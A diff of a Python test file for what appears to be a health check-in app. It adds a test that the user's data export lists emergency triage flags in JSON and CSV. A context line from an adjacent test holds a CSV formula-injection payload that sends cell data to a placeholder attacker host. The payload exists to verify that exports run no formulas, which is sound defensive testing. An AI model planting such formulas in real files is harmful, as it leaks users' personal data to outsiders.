@@ -215,6 +215,17 @@ def test_the_export_holds_everything_and_each_table_comes_as_csv(person: User) -
     assert person.get("/api/v1/me/export/passwords.csv").status_code == 404
 
 
+def test_her_export_holds_her_red_flags_open_and_closed(person: User) -> None:
+    onboard(person)
+    flagged = person.post(f"/api/v1/people/{person.id}/check-ins", {"observations": {"vaginal_bleeding": "heavy"}})
+    assert flagged.status_code == 201, flagged.text
+    flags = person.get("/api/v1/me/export").json()["red_flags"]
+    assert [f["triage"] for f in flags] == ["emergency"]
+    assert "RF-E03" in flags[0]["rules"]
+    rows = list(csv.DictReader(io.StringIO(person.get("/api/v1/me/export/red_flags.csv").content[3:].decode())))
+    assert rows[0]["triage"] == "emergency"
+
+
 def test_a_csv_export_opens_in_a_spreadsheet_as_she_wrote_it_and_runs_no_formula(person: User) -> None:
     onboard(person)
     note = '=HYPERLINK("http://evil.example/?"&A1,"Rücken")'
